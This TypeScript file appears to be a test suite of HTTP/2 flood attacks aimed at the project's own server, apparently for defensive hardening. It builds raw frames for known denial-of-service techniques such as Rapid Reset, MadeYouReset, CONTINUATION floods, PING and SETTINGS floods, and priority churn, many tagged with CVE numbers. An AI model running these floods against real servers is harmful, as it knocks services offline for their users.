import { FLAG, FRAME, SETTING } from '../../src/transport/http2/frames.ts';
import { type Attack, frame, get, grpc, nothing, odd, post, REVOKE_OWN, settings, uint32 } from './attack.ts';

const { END_STREAM, END_HEADERS } = FLAG;
const request = get('/healthz');
const held = post(REVOKE_OWN, ['content-type', 'application/json']);
const beginning = (i: number, then: Buffer) =>
  i === 0 ? Buffer.concat([frame(FRAME.HEADERS, END_HEADERS, 1, held), then]) : then;

/** Frames that cost work and ask for nothing. */
const frames: Attack[] = [
  {
    name: 'pings',
    cve: 'CVE-2019-9512',
    run: (a) => a.flood(() => frame(FRAME.PING, 0, 0, Buffer.alloc(8))),
  },
  {
    name: 'sends settings that are empty',
    cve: 'CVE-2019-9515',
    run: (a) => a.flood(() => frame(FRAME.SETTINGS, 0, 0)),
  },
  {
    name: 'sends settings with 2 700 entries',
    run: (a) => {
      const large = settings(
        ...Array.from({ length: 2_700 }, (_, i) => [SETTING.INITIAL_WINDOW_SIZE, i] as const),
      );
      return a.flood(() => large);
    },
  },
  {
    name: 'makes the windows of a hundred streams larger and smaller',
    run: (a) => {
      const streams = Buffer.concat(
        Array.from({ length: 100 }, (_, i) => frame(FRAME.HEADERS, END_HEADERS, odd(i), held)),
      );
      return a.flood((i) =>
        i === 0 ? streams : settings([SETTING.INITIAL_WINDOW_SIZE, i % 2 === 0 ? 0 : 2 ** 30]),
      );
    },
  },
  {
    name: 'sends data without a byte',
    cve: 'CVE-2019-9518',
    run: (a) => a.flood((i) => beginning(i, frame(FRAME.DATA, 0, 1))),
  },
  {
    name: 'sends continuations without a byte',
    cve: 'CVE-2019-9518',
    run: (a) =>
      a.flood((i) => (i === 0 ? frame(FRAME.HEADERS, 0, 1, request) : frame(FRAME.CONTINUATION, 0, 1))),
  },
  {
    name: 'sends continuations without end',
    cve: 'CVE-2024-27316',
    run: (a) => {
      const more = frame(FRAME.CONTINUATION, 0, 1, Buffer.alloc(16_000, 0x88));
      return a.flood((i) => (i === 0 ? frame(FRAME.HEADERS, 0, 1, request) : more));
    },
  },
  {
    name: 'goes away in the middle of continuations',
    cve: 'CVE-2024-27983',
    run: async (a) => {
      while (a.going) {
        const socket = await a.openHttp2();
        await a.send(
          socket,
          Buffer.concat([frame(FRAME.HEADERS, 0, 1, request), frame(FRAME.CONTINUATION, 0, 1, nothing)]),
        );
        socket.destroy();
      }
    },
  },
  {
    name: 'changes priorities',
    cve: 'CVE-2019-9513',
    run: (a) =>
      a.flood((i) =>
        frame(FRAME.PRIORITY, 0, odd(i % 1000), Buffer.concat([uint32(odd(i + 1) % 1000), Buffer.from([1])])),
      ),
  },
  {
    name: 'opens the window of the connection by one byte',
    run: (a) => a.flood(() => frame(FRAME.WINDOW_UPDATE, 0, 0, uint32(1)), undefined, 20),
  },
  {
    name: 'opens the window of a stream that is over',
    run: (a) =>
      a.flood((i) =>
        i === 0
          ? frame(FRAME.HEADERS, END_HEADERS | END_STREAM, 1, request)
          : frame(FRAME.WINDOW_UPDATE, 0, 1, uint32(1)),
      ),
  },
  { name: 'sends frames of no type', run: (a) => a.flood(() => frame(0x77, 0, 0, Buffer.alloc(100))) },
  {
    name: 'says goodbye again and again',
    run: (a) => a.flood(() => frame(FRAME.GOAWAY, 0, 0, Buffer.alloc(8))),
  },
  {
    name: 'pushes',
    run: (a) => a.flood(() => frame(FRAME.PUSH_PROMISE, END_HEADERS, 1, Buffer.concat([uint32(2), request]))),
  },
];

const grpcRequest = grpc(REVOKE_OWN);
const begun = (i: number, then: Buffer) =>
  Buffer.concat([frame(FRAME.HEADERS, END_HEADERS, odd(i), grpcRequest), then]);
const malformed = Buffer.from([0x82, 0x82]);
/** A field that is in no table. */
const ownField = (i: number) => {
  const value = String(i);
  return Buffer.concat([Buffer.from([0, 1, 0x78, value.length]), Buffer.from(value)]);
};

/** Streams that end before they cost their client anything. */
const resets: Attack[] = [
  {
    name: 'asks and cancels at once (rapid reset)',
    cve: 'CVE-2023-44487',
    run: (a) => a.flood((i) => begun(i, frame(FRAME.RST_STREAM, 0, odd(i), uint32(8)))),
  },
  {
    name: 'sends requests that are malformed',
    cve: 'CVE-2019-9514',
    run: (a) => a.flood((i) => frame(FRAME.HEADERS, END_HEADERS, odd(i), malformed)),
  },
  {
    // Node keeps the fields before the fault, in memory of the connection.
    name: 'sends requests that are malformed behind fields of their own',
    cve: 'CVE-2019-9514',
    run: (a) =>
      a.flood((i) =>
        frame(FRAME.HEADERS, END_HEADERS, odd(i), Buffer.concat([grpcRequest, ownField(i), malformed])),
      ),
  },
  {
    name: 'opens the window of a stream by 0 (MadeYouReset)',
    cve: 'CVE-2025-8671',
    run: (a) => a.flood((i) => begun(i, frame(FRAME.WINDOW_UPDATE, 0, odd(i), uint32(0)))),
  },
  {
    name: 'opens the window of a stream too far (MadeYouReset)',
    cve: 'CVE-2025-8671',
    run: (a) => a.flood((i) => begun(i, frame(FRAME.WINDOW_UPDATE, 0, odd(i), uint32(2 ** 31 - 1)))),
  },
  {
    name: 'sends more than its content-length (MadeYouReset)',
    cve: 'CVE-2025-8671',
    run: (a) => {
      const headers = grpc(REVOKE_OWN, ['content-length', '1']);
      return a.flood((i) =>
        Buffer.concat([
          frame(FRAME.HEADERS, END_HEADERS, odd(i), headers),
          frame(FRAME.DATA, END_STREAM, odd(i), Buffer.alloc(9)),
        ]),
      );
    },
  },
  {
    name: 'sends trailers that do not end (MadeYouReset)',
    cve: 'CVE-2025-8671',
    run: (a) =>
      a.flood((i) =>
        begun(i, frame(FRAME.HEADERS, END_HEADERS, odd(i), Buffer.from([0x40, 1, 0x78, 1, 0x31]))),
      ),
  },
  {
    name: 'sends data after its end (MadeYouReset)',
    cve: 'CVE-2025-8671',
    run: (a) =>
      a.flood((i) =>
        begun(
          i,
          Buffer.concat([
            frame(FRAME.DATA, END_STREAM, odd(i), Buffer.alloc(5)),
            frame(FRAME.DATA, 0, odd(i), Buffer.alloc(5)),
          ]),
        ),
      ),
  },
  {
    name: 'makes a stream depend on itself (MadeYouReset)',
    cve: 'CVE-2025-8671',
    run: (a) =>
      a.flood((i) =>
        begun(i, frame(FRAME.PRIORITY, 0, odd(i), Buffer.concat([uint32(odd(i)), Buffer.from([1])]))),
      ),
  },
  {
    name: 'cancels streams that were never opened',
    run: (a) => a.flood((i) => frame(FRAME.RST_STREAM, 0, odd(i), uint32(8))),
  },
  {
    name: 'opens streams of even numbers',
    run: (a) => a.flood((i) => frame(FRAME.HEADERS, END_HEADERS, 2 * i + 2, request)),
  },
  {
    name: 'opens more streams than it may',
    run: (a) => a.flood((i) => frame(FRAME.HEADERS, END_HEADERS, odd(i), held)),
  },
];

export const http2Floods = [...frames, ...resets];
